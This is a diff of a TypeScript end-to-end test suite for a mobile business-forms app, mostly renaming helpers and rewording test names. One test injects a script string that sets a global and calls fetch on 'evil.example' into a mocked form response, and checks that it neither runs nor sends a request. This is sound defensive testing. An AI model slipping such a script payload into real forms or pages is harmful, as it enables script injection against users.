@@ -1,24 +1,24 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { addressOf } from '#presentation/routes/addresses.ts';
+import { buildPagePath } from '#presentation/ui/navigation/addresses.ts';
 import { anyRecord, anyWire } from '#test/support/forms/oddForms.ts';
-import { keeperOf } from '#test/support/records.ts';
+import { createRecordClient } from '#test/support/records.ts';
 import type { Phone } from './support/phone.ts';
-import { look, openRecord, told } from './support/record.ts';
+import { checkLayout, openRecord, waitForText } from './support/record.ts';
 import { button, field } from './support/request.ts';
 import { openSite } from './support/site.ts';
 import { wordsIn } from './support/words.ts';
 import { VARIANTS_OF_RUN } from './support/variants.ts';
 
-/** So many of each kind of fault come by themselves. */
-const ODD_FORMS = 200;
+/** Number of malformed forms, enough to include each kind of fault. */
+const MALFORMED_FORM_COUNT = 200;
 const site = openSite({ hasObjects: true });
 
-const keeper = async (account: string) => keeperOf(await site.colleague(account));
+const keeper = async (account: string) => createRecordClient(await site.colleague(account));
 const windowTitle = ({ page }: Phone) => expect.poll(() => page.title());
 
-/** Another answer than our server's: what another platform sends where somebody has forgotten something. */
-async function answeredOtherwise<Answer extends object>(
+/** Changes a response of our server to that of another platform with missing configuration. */
+async function modifyResponse<Answer extends object>(
   { page }: Phone,
   path: string,
   change: (answer: Answer) => Answer,
@@ -41,7 +41,7 @@ const withPrintButton = (answer: FormAnswer): FormAnswer => ({
   buttons: JSON.stringify([...(JSON.parse(answer.buttons) as readonly object[]), PRINT]),
 });
 
-/** Everything the device has in its databases, as text. */
+/** Returns all contents of the device's databases as text. */
 const keptOnDevice = ({ page }: Phone): Promise<string> =>
   page.evaluate(async () => {
     const answerOf = <T>(asked: IDBRequest<T>) =>
@@ -59,7 +59,7 @@ const keptOnDevice = ({ page }: Phone): Promise<string> =>
     return JSON.stringify(found);
   });
 
-/** Another page of the app, without a load: as a link in it leads there. */
+/** Navigates to another page of the app without a reload, like a link. */
 const follow = ({ page }: Phone, address: string) =>
   page.evaluate((to) => {
     history.pushState(null, '', `/mobile${to}`);
@@ -67,65 +67,65 @@ const follow = ({ page }: Phone, address: string) =>
   }, address);
 
 describe.each(VARIANTS_OF_RUN)('in $language, $theme', (variant) => {
-  it('a list of the company has the name of its page in the window, a form and a list their own', async () => {
+  it('shows the names of forms and lists in the window title', async () => {
     const phone = await site.phone({ ...variant, account: 'hepeng' });
     const { t, company } = phone.words;
-    await phone.open(addressOf('businessLists'));
+    await phone.open(buildPagePath('businessLists'));
     await windowTitle(phone).toBe(t('page.businessLists'));
     await openRecord(phone, { alias: 'asset' });
     await windowTitle(phone).toBe(company('Asset'));
-    await phone.open(addressOf('customList', { alias: 'asset' }));
+    await phone.open(buildPagePath('customList', { alias: 'asset' }));
     await phone.page.getByRole('heading', { level: 1, name: company('Assets') }).waitFor();
-    await look(phone, 'customList');
-    await phone.open(addressOf('cardLayout', { key: 'assets' }));
+    await checkLayout(phone, 'customList');
+    await phone.open(buildPagePath('cardLayout', { key: 'assets' }));
     await phone.page.getByRole('listitem').first().waitFor();
     await windowTitle(phone).toBe(t('page.cardLayout'));
   });
 
-  it('a list whose incoming parameters nobody has configured says so, and asks for no data', async () => {
+  it('reports missing incoming parameters of a list, and loads no rows', async () => {
     const phone = await site.phone({ ...variant, account: 'hepeng' });
-    await answeredOtherwise<ListAnswer>(phone, '**/formBoList/assets/dialog*', ({ data, ...answer }) => ({
+    await modifyResponse<ListAnswer>(phone, '**/formBoList/assets/dialog*', ({ data, ...answer }) => ({
       ...answer,
       data: { ...data, searchJson: JSON.stringify([{ type: 'income', fieldName: 'deptId', autoFilter: 'NO' }]) },
     }));
     const asked: string[] = [];
     phone.page.on('request', (request) => asked.push(request.url()));
-    await phone.open(addressOf('businessList', { key: 'assets' }));
-    await told(phone, phone.words.t('validation.demand.incomingParameters'));
-    await look(phone, 'income');
+    await phone.open(buildPagePath('businessList', { key: 'assets' }));
+    await waitForText(phone, phone.words.t('validation.demand.incomingParameters'));
+    await checkLayout(phone, 'income');
     expect(asked.filter((url) => url.includes('getData'))).toEqual([]);
   });
 
-  it('a record whose template nobody has bound is not printed, and says why; a failure is told by its kind', async () => {
+  it('does not print a record without a template, and gives the reason; a failure is reported by kind', async () => {
     const hepeng = await keeper('hepeng');
     const pk = await hepeng.save({ code: `IT-${variant.language}-${variant.theme}`, name: 'Scanner' }, 'asset');
     const phone = await site.phone({ ...variant, account: 'hepeng' });
     const { page, words } = phone;
     const { t } = words;
     const forms = '**/formSolution/getMobileByAlias*';
-    await answeredOtherwise<FormAnswer>(phone, forms, (answer) => ({ ...withPrintButton(answer), prints: [] }));
+    await modifyResponse<FormAnswer>(phone, forms, (answer) => ({ ...withPrintButton(answer), prints: [] }));
     await openRecord(phone, { alias: 'asset', pk });
     await button(phone, PRINT.name).click();
-    await told(phone, t('message.noPrintTemplate'));
-    await look(phone, 'noTemplate');
+    await waitForText(phone, t('message.noPrintTemplate'));
+    await checkLayout(phone, 'noTemplate');
 
     await page.unroute(forms);
-    await answeredOtherwise<FormAnswer>(phone, forms, withPrintButton);
+    await modifyResponse<FormAnswer>(phone, forms, withPrintButton);
     await page.route('**/formPrint/**', (route) =>
       route.fulfill({ json: { success: false, message: '', reason: 'print.pdf', code: 500, show: false } }),
     );
     await openRecord(phone, { alias: 'asset', pk });
     await button(phone, PRINT.name).click();
-    await told(phone, t('message.generatePdf'));
-    await look(phone, 'noPdf');
+    await waitForText(phone, t('message.generatePdf'));
+    await checkLayout(phone, 'noPdf');
   });
 });
 
-it('program text of a form is not run, and asks nobody', async () => {
+it('executes no scripts of a form, and sends no requests because of them', async () => {
   const phone = await site.phone({ account: 'zhangwei', language: 'en-US' });
   const { page } = phone;
   const evil = 'window.hacked = 1; fetch("//evil.example/x")';
-  await answeredOtherwise<FormAnswer & { readonly script: string; readonly template: string }>(
+  await modifyResponse<FormAnswer & { readonly script: string; readonly template: string }>(
     phone,
     '**/formSolution/getMobileByAlias*',
     (answer) => ({
@@ -145,10 +145,10 @@ it('program text of a form is not run, and asks nobody', async () => {
   expect([await page.evaluate('window.hacked'), elsewhere]).toEqual([undefined, []]);
 });
 
-it('whatever a form and its record are, the page draws them or says why it does not', async () => {
+it('renders any form with any record, or reports why not', async () => {
   const phone = await site.phone({ account: 'zhangwei', language: 'en-US' });
   const { page } = phone;
-  const odd = fc.sample(fc.tuple(anyWire, anyRecord), { numRuns: ODD_FORMS, seed: 20_261_124 });
+  const odd = fc.sample(fc.tuple(anyWire, anyRecord), { numRuns: MALFORMED_FORM_COUNT, seed: 20_261_124 });
   await page.route('**/formSolution/getMobileByAlias*', async (route) => {
     const at = Number(new URL(route.request().url()).searchParams.get('pk'));
     const answer = (await (await route.fetch()).json()) as object;
@@ -159,9 +159,9 @@ it('whatever a form and its record are, the page draws them or says why it does 
   page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
   page.on('pageerror', (error) => void errors.push(error.message));
   await openRecord(phone, { alias: 'tool' });
-  for (let at = 1; at < ODD_FORMS; at += 1) {
-    await follow(phone, addressOf('customForm', { alias: 'tool', pk: String(at) }));
-    // The form by its name, or a sentence that says what is wrong with it.
+  for (let at = 1; at < MALFORMED_FORM_COUNT; at += 1) {
+    await follow(phone, buildPagePath('customForm', { alias: 'tool', pk: String(at) }));
+    // Waits for the name of the form, or for a message about the fault.
     await page.waitForFunction(
       (name) =>
         document.querySelector('h1')?.textContent === name || document.querySelector('main [role="alert"], main h2'),
@@ -171,11 +171,11 @@ it('whatever a form and its record are, the page draws them or says why it does 
   }
 });
 
-it('what was typed is there the next day and in another language, beside the day that stands there by then', async () => {
+it('restores input on the next day and in another language, beside the new default date', async () => {
   let today = '2026-11-23';
   const phone = await site.phone({ account: 'zhangwei', language: 'en-US' });
   const { page, context } = phone;
-  await answeredOtherwise<{ readonly data: object }>(phone, '**/formSolution/getMobileByAlias*', (answer) => ({
+  await modifyResponse<{ readonly data: object }>(phone, '**/formSolution/getMobileByAlias*', (answer) => ({
     ...answer,
     data: { ...answer.data, until: today },
   }));
